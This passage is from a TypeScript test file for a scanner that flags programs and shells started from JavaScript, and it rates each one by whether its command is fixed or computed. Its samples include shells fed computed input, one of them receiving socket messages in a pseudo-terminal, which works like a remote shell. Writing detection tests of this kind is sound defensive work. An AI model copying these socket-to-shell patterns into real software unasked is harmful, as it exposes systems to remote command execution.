    const code = 'const cp=require("child_process");function probe(b){return cp.execFile(b,["-version"])}function snap(sh){let s=build(sh);return cp.execFile(sh,["-c","-l",s])}\nprobe("ffmpeg");snap(process.env.SHELL)';
    const found = scanWith([childProcess], code);
    const at = (s: string) => found.find(f => f.offset === code.indexOf(s));
    assert.deepEqual(at('probe("ffmpeg")')?.evidence, ['call child_process.execFile via probe()', 'command ffmpeg -version']);
    assert.equal(at('cp.execFile(sh')?.severity, 'medium', 'the shell line built inside is the wrapper\'s finding');
    assert.equal(at('snap(process')?.severity, 'low');
    assert.equal(at('snap(process')?.message, 'Starts a program (child_process.execFile via snap()) computed at run time');
  });

  it("follows a caller's program through a normalising helper and a reassigned parameter (execa 5 over cross-spawn), not through text built from it", () => {
    const code = [
      'const cp=require("child_process");',
      'function parse(command,args){args=args?args.slice(0):[];return {command,args}}',
      'function handle(file,args){const p=parse(file,args);file=p.command;args=p.args;return {file,args}}',
      'function run(file,args){const o=handle(file,args);return cp.spawn(o.file,o.args)}',
      'function sub(name){const o={file:`git-${name}`};return cp.spawn(o.file,[])}',
      'run("git",["status"]);run(tool,[]);sub("status")',
    ].join('\n');
    const found = scanWith([childProcess], code);
    const at = (s: string) => found.find(f => f.offset === code.indexOf(s));
    assert.deepEqual(at('run("git"')?.evidence, ['call child_process.spawn via run()', 'command git status']);
    assert.equal(at('run(tool')?.message, 'Starts a program (child_process.spawn via run()) computed at run time');
    assert.equal(at('sub("status")'), undefined, 'the caller names part of the program only');
    assert.equal(found.length, 4, found.map(f => f.message).join('\n'));
  });

  it("decides a shell per caller from the options each passes through the wrappers (Claude Code's ij(q) = WU(q, {...K, shell: true}) over M7's {shell: $})", () => {
    const code = [
      'const cp=require("child_process");function run(f,a,o){return cp.spawn(f,a,o)}',
      'function ij(q,K){return run(q,[],{...K,shell:!0})}',
      'function m7(q,a,{shell:$,cwd:c}={}){return run(q,a,{cwd:c,shell:$})}function sh(q){return run(q,{shell:!0})}',
      'ij("ps aux | grep code");m7("npm",["view","x"],{cwd:d});m7(helper,[],{shell:!0});run("git",["status"],{cwd:d});sh("ls | wc -l")',
    ].join('\n');
    const found = scanWith([childProcess], code);
    const at = (s: string) => found.find(f => f.offset === code.indexOf(s));
    assert.equal(at('ij("ps')?.message, 'Runs a shell command (child_process.spawn via ij()): ps aux | grep code');
    assert.equal(at('m7("npm"')?.message, 'Starts a program (child_process.spawn via m7()): npm view x', 'this caller sets no shell');
    assert.equal(at('run("git"')?.message, 'Starts a program (child_process.spawn via run()): git status');
    assert.equal(at('sh("ls')?.message, 'Runs a shell command (child_process.spawn via sh()): ls | wc -l', 'options where the argument list goes, as spawn takes them');
    // m7's own call runs a shell with a computed command because one caller asks for it.
    assert.equal(at('run(q,a,')?.severity, 'medium');
    assert.equal(at('run(q,a,')?.message, 'Runs a shell command (child_process.spawn via run()) computed at run time');
  });

  it("shows a wrapper's own shell as the commands its callers give when every call of it is known and fixed (low); a computed caller, or a wrapper passed on or exported, keeps it medium", () => {
    const code = [
      'const cp=require("child_process");',
      'async function sh(c){return cp.execSync(c)}sh("git status");sh(`git log ${x}`);',
      'function sh2(c){return cp.execSync(c)}sh2("ls");sh2(userCmd);',
      'function sh3(c){return cp.execSync(c)}sh3("ls");module.exports.sh3=sh3;',
      'function sh5(c){return cp.execSync(c)}sh5("ls");setTimeout(sh5,1,"x");',
      'const sh4=(c)=>cp.exec(c);function via(c){return sh4(c)}via("uname -a");sh4("whoami");',
    ].join('\n');
    const found = scanWith([childProcess], code);
    const inside = (wrapper: string) => found.find(f => f.offset === code.indexOf('cp.exec', code.indexOf(wrapper)));
    assert.equal(inside('function sh(')?.severity, 'low');
    assert.equal(inside('function sh(')?.message, 'Runs a shell command (child_process.execSync) that its callers give: git status or git log *');
    assert.equal(inside('const sh4')?.message, 'Runs a shell command (child_process.exec) that its callers give: uname -a or whoami');
    assert.equal(inside('function sh2(')?.severity, 'medium', 'one caller passes a computed command');
    assert.equal(inside('function sh3(')?.severity, 'medium', 'exported: callers elsewhere may pass anything');
    assert.equal(inside('function sh5(')?.severity, 'medium', 'passed as a value: called with anything');
    const esm = 'import cp from "child_process";\nexport function sh(c){return cp.execSync(c)}sh("ls");\nexport const sh2=(c)=>cp.execSync(c);sh2("ls")';
    const shells = scanWith([childProcess], esm).filter(f => f.evidence.includes('call child_process.execSync'));
    assert.deepEqual(shells.map(f => f.severity), ['medium', 'medium'], 'an exported wrapper may be called from other modules');
  });

  it("spells a caller's argument list kept in a name bound once to a written list (systeminformation's execSafe(\"ps\", params)), and a spread of one", () => {
    const code = 'const {spawn}=require("child_process");function execSafe(c,a,o){return spawn(c,a,o||{})}\nfunction f(){const params=["-axo","pid,comm"];return execSafe("ps",params)}';
    const found = scanWith([childProcess], code);
    assert.deepEqual(found.find(f => f.offset === code.indexOf('execSafe("ps"'))?.evidence, ['call child_process.spawn via execSafe()', 'command ps -axo pid,comm']);
    const spread = 'const {execFile}=require("child_process");const PL=["-convert","json","-o","-","--"];function run(c,a){return execFile(c,a)}\nfunction read(f){return run("/usr/bin/plutil",[...PL,f])}';
    const plutil = scanWith([childProcess], spread).find(f => f.offset === spread.indexOf('run("/usr'));
    assert.deepEqual(plutil?.evidence, ['call child_process.execFile via run()', 'command /usr/bin/plutil -convert json -o - -- *'], 'a spread of a written list is spelled');
  });

  it('spells the command of a call two wrappers out, with each wrapper call on the way as a related place', () => {
    const code = 'function run(cmd,o){return Bun.spawn(cmd,o)}function start(bin,args,o){return run([bin,...args],{...o,stdin:"pipe"})}\nstart("clangd",["--background-index"],{});start(find(),[])';
    const found = scanWith([childProcess], code);
    const outer = found.find(f => f.offset === code.indexOf('start("clangd"'));
    assert.deepEqual(outer?.evidence, ['call Bun.spawn via start()', 'command clangd --background-index']);
    const textAt = (r: { line: number; column: number }) => code.split('\n')[r.line - 1].slice(r.column - 1, r.column + 11);
    assert.deepEqual(outer?.related.map(r => [r.message, textAt(r)]), [
      ['the wrapper starts the process here', 'Bun.spawn(cm'],
      ['a wrapper passes the command on here', 'run([bin,...'],
    ]);
    assert.equal(found.length, 3, found.map(f => f.message).join('\n'));
  });

  // execa 9's shapes, written small (the real package is bundled in test/unit/bundled.test.ts).
  it('follows a program given as a property of a destructured parameter, a spread helper list, rest arguments and a factory-made function, and the shell its caller turns on', () => {
    const code = [
      'const cp=require("child_process");',
      'const both=(file,args,options)=>options.shell?[[file,...args].join(" "),[],options]:[file,args,options];',
      'const start=({file,commandArguments,options})=>cp.spawn(...both(file,commandArguments,options));',
      'const core=(rawFile,rawArgs,rawOptions)=>start({file:rawFile,commandArguments:rawArgs,options:{...rawOptions}});',
      'const bound=({map},first,...next)=>core(first,next[0]??[],next[1]??{});',
      'const make=(map)=>{const b=(...a)=>bound({map},...a);return b};',
      'const run=make(()=>({}));',
      'function stat(){return run("git",["status","--short"])}function line(c){return run(c,[],{shell:true})}function plain(c){return run(c,["-v"])}module.exports={stat,line,plain}',
    ].join('\n');
    const found = scanWith([childProcess], code);
    const at = (s: string) => found.find(f => f.offset === code.indexOf(s));
    assert.equal(at('run("git"')?.message, 'Starts a program (child_process.spawn via run()): git status --short');
    assert.equal(at('run(c,[],{shell')?.message, 'Runs a shell command (child_process.spawn via run()) computed at run time');
    assert.equal(at('run(c,[],{shell')?.severity, 'medium');
    // A computed program with no shell, passed on by an exported function, adds nothing further out.
    assert.equal(at('run(c,["-v"])'), undefined, found.map(f => f.message).join('\n'));
    // A property of a parameter counts only where the caller writes it: a table's entry is no program.
    const table = 'const cp=require("child_process");const start=({file})=>cp.spawn(file,[]);function go(p){return start(profiles[p])}go("x");start({file:"ls"})';
    const starts = scanWith([childProcess], table).map(f => f.message).sort();
    assert.deepEqual(starts, ['Starts a program (child_process.spawn via start()): ls', 'Starts a program (child_process.spawn) computed at run time']);
  });
});

// @byterover/cipher 0.3.0's BashSession: a shell kept running, fed each command on its input.
describe('child-process: commands written to a shell\'s input', () => {
  it('reports a computed command written to a shell started with no command (medium, at the write), not the fixed exit', () => {
    const code = 'const cp=require("child_process");class S{start(){this.p=cp.spawn("/bin/bash",[],{stdio:["pipe","pipe","pipe"]})}run(c){this.p.stdin?.write(`${c}\\n`);this.p.stdin.write("exit\\n")}}';
    const found = scanWith([childProcess], code);
    assert.deepEqual(found.map(f => [f.severity, f.message]), [
      ['low', 'Starts a program (child_process.spawn): /bin/bash'],
      ['medium', 'Runs shell commands written to the input of a shell it started (child_process.spawn: /bin/bash), computed at run time'],
    ]);
    const input = found[1];
    assert.equal(input.offset, code.indexOf('this.p.stdin?.write'));
    assert.ok(input.evidence.includes('input `${c}\\n`'), JSON.stringify(input.evidence));
    assert.deepEqual(input.related.map(r => [r.message, r.column]), [['the shell starts here', code.indexOf('cp.spawn') + 1]]);
  });

  it('follows the process through a function that returns it, with the shell\'s options', () => {
    const code = 'const{spawn}=require("child_process");function open(){return spawn("bash",["-l"])}const sh=open();function send(cmd){sh.stdin.write(cmd+"\\n")}';
    const found = scanWith([childProcess], code).filter(f => f.severity === 'medium');
    assert.deepEqual(found.map(f => f.message), ['Runs shell commands written to the input of a shell it started (child_process.spawn: bash -l), computed at run time']);
  });

  it('leaves alone a fixed line written to a shell, and data written to a program or to a shell given its command or script', () => {
    const code = 'const cp=require("child_process");const sh=cp.spawn("bash");sh.stdin.write("exit\\n");const n=cp.spawn("node",["s.js"]);n.stdin.write(data);const c=cp.spawn("bash",["-c","cat > out"]);c.stdin.end(data);const k=cp.spawn("sh",["setup.sh"]);k.stdin.write(data)';
    const found = scanWith([childProcess], code);
    assert.deepEqual(found.filter(f => f.message.includes('input')).map(f => f.message), []);
    assert.equal(found.length, 4, 'the four process starts, nothing more');
  });

  // Factory's status line (review 110): `f = ["-c", e.command]; spawn("sh", f)`, then the context as JSON on its input.
  it("reads a shell's argument list kept in a name: one giving a command makes the input data; one giving none keeps it commands", () => {
    const code = 'const{spawn}=require("child_process");function run(e,n){let f=["-c",e.command],r=spawn("sh",f,{stdio:"pipe"});r.stdin.write(JSON.stringify(n));let g=["-i"],q=spawn("sh",g);q.stdin.write(n.line);return[r,q]}';
    const inputs = scanWith([childProcess], code).filter(f => f.message.includes('input'));
    assert.deepEqual(inputs.map(f => f.offset), [code.indexOf('q.stdin.write')]);
    // Review 113: a list not known here (a parameter, a choice, options in a name) leaves the shell reading its input.
    const unknown = 'const{spawn}=require("child_process");const o={stdio:"pipe"};const a=spawn("/bin/bash",o);const c=process.platform==="darwin"?["-l"]:["-i"];const b=spawn("bash",c);exports.open=(l)=>{const d=spawn("bash",l);return x=>[a.stdin.write(x),b.stdin.write(x),d.stdin.write(x)]}';
    assert.equal(scanWith([childProcess], unknown).filter(f => f.message.includes('input')).length, 3);
  });

  // Letta Code 0.25.9's remote terminal (review 85): keystrokes from its cloud typed into a pseudo-terminal's login shell.
  it("reports computed text typed into a pseudo-terminal's shell ($SHELL or a shell's name), not into another program's or a fixed line", () => {
    const code = 'const pty=require("node-pty"),os=require("os");function shell(){return process.env.SHELL||(os.platform()==="win32"?"powershell.exe":"/bin/zsh")}function open(socket){const p=pty.spawn(shell(),[],{name:"xterm",cols:80,rows:24});socket.on("message",m=>p.write(JSON.parse(m).data));p.write("exit\\r");return p}function runTool(cmd){const t=pty.spawn("claude",["--resume"],{cols:80,rows:24});t.write(cmd)}function bash(cmd){const b=pty.spawn("bash",["-l"],{cols:80,rows:24});b.write(cmd+"\\r")}function script(cmd){const s=pty.spawn("bash",["run.sh"],{cols:80,rows:24});s.write(cmd)}';
    const found = scanWith([childProcess], code).filter(f => f.severity === 'medium');
    assert.deepEqual(found.map(f => [f.offset, f.message]), [
      [code.indexOf('p.write(JSON'), 'Runs shell commands written to the input of a shell it started (node-pty.spawn: a shell), computed at run time'],
      [code.indexOf('b.write(cmd'), 'Runs shell commands written to the input of a shell it started (node-pty.spawn: bash -l), computed at run time'],
    ]);
  });
});

// Claude Code's bundled execa (the corpus diff of a change that follows lists into helpers): the
// wrapper's own start takes every caller's list, so a list is followed only into functions called.
describe('child-process: a wrapper\'s own start and its callers\' lists', () => {
  it('does not pair the wrapper\'s start with one caller\'s "-c" list; that caller\'s start is the shell (medium)', () => {
    const code = 'const cp=require("child_process");function run(f,a,o){return cp.spawn(f,a,o)}function s(x){return run("sh",["-c",x])}function g(){return run("git",["status"])}module.exports={s,g}';
    const found = scanWith([childProcess], code).map(f => `${f.severity} ${f.message}`);
    assert.deepEqual(found, [
      'low Starts a program (child_process.spawn) computed at run time',
      'medium Runs a shell command (child_process.spawn via run()) computed at run time',
      'low Starts a program (child_process.spawn via run()): git status',
    ]);
  });
});

describe('child-process: a runner given as a property of an object', () => {
  // Command Code 1.63.0 (review 95): when the function that calls `e.run(…)` also hands the object on, other calls are not seen.
  it('keeps the runner computed (medium) when the object is handed on; the call seen still shows its command (low)', () => {
    const code = 'import{execSync as S}from"child_process";function validate(e){const t=e.run({command:"git remote get-url origin"}).trim();other(e);return t}export function sandbox(){return validate({run:({command:e})=>S(e,{encoding:"utf-8"})})}';
    assert.deepEqual(scanWith([childProcess], code).map(f => `${f.severity} ${f.message}`), [
      'low Runs a shell command (child_process.execSync via e.run()): git remote get-url origin',
      'medium Runs a shell command (child_process.execSync) computed at run time',
    ]);
  });
});

describe('child-process: a caller\'s command written with +', () => {
  // Copilot CLI's webview build script (review 54): a fixed command with a value added by +, given to a wrapper.
  it('spells the wrapper call\'s fixed command with * for the value (low), as for a template', () => {
    const code = 'const{execSync}=require("child_process");function run(c,a){const cmd=!a?.length?c:`${c} ${a.join(" ")}`;execSync(cmd)}function strip(p){run("codesign --remove-signature "+p)}';
    const call = scanWith([childProcess], code).find(f => f.column === code.indexOf('run("codesign') + 1);
    assert.equal(call?.severity, 'low');
    assert.ok(call?.evidence.includes('command codesign --remove-signature *'), JSON.stringify(call?.evidence));
  });
});

describe('child-process: a wrapper that writes the program, its callers the arguments', () => {
  // Factory's service setup (review 110): `Dt(["tee", unit])` and `Dt(["systemctl", "daemon-reload"])` over `spawn("sudo", e)`.
  it("shows each caller's arguments after the wrapper's own program (sudo tee *, sudo systemctl daemon-reload)", () => {
    const code = 'const{spawn}=require("child_process");function Dt(e,i){return new Promise((r,s)=>{let a=spawn("sudo",e,{stdio:"pipe"});a.on("close",r);if(i!==void 0)a.stdin.end(i)})}async function bt(u){await Dt(["tee",u],"x");await Dt(["systemctl","daemon-reload"])}';
    const found = scanWith([childProcess], code);
    const at = (s: string) => found.find(f => f.offset === code.indexOf(s))?.message;
    assert.equal(at('Dt(["tee"'), 'Starts a program (child_process.spawn via Dt()): sudo tee *');
    assert.equal(at('Dt(["systemctl"'), 'Starts a program (child_process.spawn via Dt()): sudo systemctl daemon-reload');
    assert.equal(at('spawn("sudo"'), 'Starts a program (child_process.spawn): sudo', 'the start inside stays');
  });

  it('reads no caller where the list is not the parameter as given, or the program is computed', () => {
    const code = 'const{spawn}=require("child_process");function a(e){return spawn("git",["-C",e])}function b(e){return spawn(pick(),e)}a("/tmp");b(["x"])';
    const found = scanWith([childProcess], code);
    assert.deepEqual(found.filter(f => /via/.test(f.message)).map(f => f.message), []);
  });
});

describe('child-process: a runner given to an object after it is made', () => {
  // Kilo Code (review 111): `var M7 = {}; M7.text = QGf`, then `M7.text(["git", …])` through two more wrappers.
  it('reads the calls of a method assigned once to a module-level object (M7.text = QGf) as calls of that function', () => {
    const code = 'const cp=require("child_process");var M7={};function V(H,A={}){return cp.spawn(H[0],H.slice(1),{cwd:A.cwd})}async function J(H,A={}){return V(H,{cwd:A.cwd})}async function Q(H,A={}){const L=await J(H,A);return String(L.stdout)}M7.text=Q;M7.run=J;async function head(){return M7.text(["git","rev-parse","HEAD"],{})}';
    const found = scanWith([childProcess], code);
    assert.equal(found.find(f => f.offset === code.indexOf('M7.text(["git"'))?.message, 'Starts a program (child_process.spawn via M7.text()): git rev-parse HEAD');
    const twice = code.replace('M7.run=J;', 'M7.run=J;M7.text=J;');
    assert.deepEqual(scanWith([childProcess], twice).filter(f => f.offset === twice.indexOf('M7.text(["git"')), [], 'a key given two functions names neither');
  });
});

describe('child-process: a runner given as a default', () => {
  // Factory's clipboard reader (review 110): three fixed lines through a default exec helper, reported as a computed shell.
  it("reads the calls of a name given a default runner (options.execCommand ?? (r) => exec(r)) as the default's callers (low, with their lines)", () => {
    const code = 'const{exec}=require("child_process");async function readClip(e={}){let n=e.execCommand??(async(r)=>exec(r));await n("wl-paste --list-types");return n("xclip -selection clipboard -o")}';
    const found = scanWith([childProcess], code);
    const inside = found.find(f => f.offset === code.indexOf('exec(r)'));
    assert.equal(inside?.severity, 'low');
    assert.equal(inside?.message, 'Runs a shell command (child_process.exec) that its callers give: wl-paste --list-types or xclip -selection clipboard -o');
    assert.equal(found.find(f => f.offset === code.indexOf('n("wl-paste'))?.message, 'Runs a shell command (child_process.exec via n()): wl-paste --list-types');
  });

  // Review 113: `run = viaFile || (…)` always calls viaFile, a function, never the other.
  it('reads the calls of a name given a known function or another (known || (line) => exec(line)) as calls of the known one', () => {
    const code = 'const{exec,execFile}=require("child_process");function viaFile(line){const[f,...a]=line.split(" ");return execFile(f,a)}const run=viaFile||(line=>exec(line));run("git status")';
    const call = scanWith([childProcess], code).filter(f => f.offset === code.indexOf('run("git'));
    assert.deepEqual(call.map(f => f.message), ['Starts a program (child_process.execFile via run()) computed at run time']);
  });
});

describe('child-process: a caller that gives nothing to run', () => {
  // Until module-level tables were read, `U` was not, and this line counted as computed: its
  // program is the table's fixed `wl-copy`, given the text as an argument (low, as `git log ${x}`).
  it('reads a loop over a module-level table whose variable is given its own value and more text (Y = Y + " " + A) as the fixed program with a computed argument (low)', () => {
    const code = 'const{spawn}=require("child_process");function zY(cmd,opts){return spawn(cmd,[],opts)}const U={linux:["wl-copy"]};function copy2(A){let q=U[platform()];for(let Y of q){Y=Y+" "+A;zY(Y,{shell:true})}}';
    const call = scanWith([childProcess], code).find(f => f.offset === code.indexOf('zY(Y,{shell'));
    assert.equal(call?.severity, 'low');
    assert.equal(call?.message, 'Runs a shell command (child_process.spawn via zY()): wl-copy *');
  });

  // Review 109 (Claude Agent SDK's clipboard module): `W.linux` of a table written for darwin and
  // win32 only, and `commands.checkImage` that the Linux entry sets to null, were two medium
  // "computed" shell starts; neither call ever runs anything on Linux.
  const code = [
    'const cp=require("child_process");',
    'var W={darwin:"osascript -e \'get POSIX path of (the clipboard as text)\'",win32:"powershell -NoProfile -Command Get-Clipboard"};',
    'function A(){let d={darwin:{checkImage:"osascript -e \'the clipboard as text\'",saveImage:"osascript -e \'x\'"},linux:{checkImage:null,saveImage:"xclip -selection clipboard -t image/png -o"}};return{commands:d.linux||d.linux,path:"/tmp/x"}}',
    'async function I(e){return cp.exec(e)}',
    'async function B(){let e=W.linux;if(!e)return null;return I(e)}',
    'async function C(){let a;try{a=A()}catch{return null}let{commands:s,path:l}=a;if(s.checkImage!==null&&(await I(s.checkImage)).code!==0)return null;return I(s.saveImage)}',
    'async function D(){return I(W[process.platform])}',
  ].join('\n');
  const found = scanWith([childProcess], code);
  const at = (s: string) => found.filter(f => f.offset === code.indexOf(s));

  it("reports no start where the command is an entry the table lacks, or one it sets to null, and shows the others' commands (low)", () => {
    assert.deepEqual(at('I(e)}'), [], 'W has no linux entry');
    assert.deepEqual(at('I(s.checkImage)'), [], 'checkImage is null in the entry read');
    assert.equal(at('I(s.saveImage)')[0]?.message, 'Runs a shell command (child_process.exec via I()): xclip -selection clipboard -t image/png -o');
    assert.equal(at('I(W[process.platform])')[0]?.severity, 'low', 'a module-level table read with a computed key: one of its fixed lines');
    assert.deepEqual(at('I(W[process.platform])')[0]?.evidence.filter(e => e.startsWith('command ')), ["command osascript -e 'get POSIX path of (the clipboard as text)'", 'command powershell -NoProfile -Command Get-Clipboard']);
    const inside = at('cp.exec(e)')[0];
    assert.equal(inside?.severity, 'low', 'every caller known, each giving a fixed line or nothing');
    assert.match(inside?.message ?? '', /that its callers give: .*xclip/);
  });

  // Claude Code 2.1.332's `K2r(e, void 0, r)`: the runner uses `r ?? gitPath()`, so nothing given means its own program.
  it('keeps the start of a caller that gives nothing to a wrapper that falls back to its own program', () => {
    const fallback = 'const cp=require("child_process");function K(e,r,n){let i=r??gitPath();return cp.execFile(i,["remote","get-url","origin"],{cwd:e})}function y(e){return K(e,void 0)}';
    const call = scanWith([childProcess], fallback).filter(f => f.offset === fallback.indexOf('K(e,void 0)'));
    assert.equal(call.length, 1, 'the caller still starts git');
  });

  it('still reads a table the module changes, or a local given an unknown value, as computed', () => {
    const changed = code.replace('async function D()', 'W.linux=process.env.CLIP;async function D()');
    const b = scanWith([childProcess], changed).filter(f => f.offset === changed.indexOf('I(e)}'));
    assert.equal(b[0]?.severity, 'medium', 'W.linux is written elsewhere: a command computed at run time');
    const unknown = code.replace('let e=W.linux;', 'let e=W.linux||process.env.CLIP;');
    const u = scanWith([childProcess], unknown).filter(f => f.offset === unknown.indexOf('I(e)}'));
    assert.equal(u[0]?.severity, 'medium');
  });
});
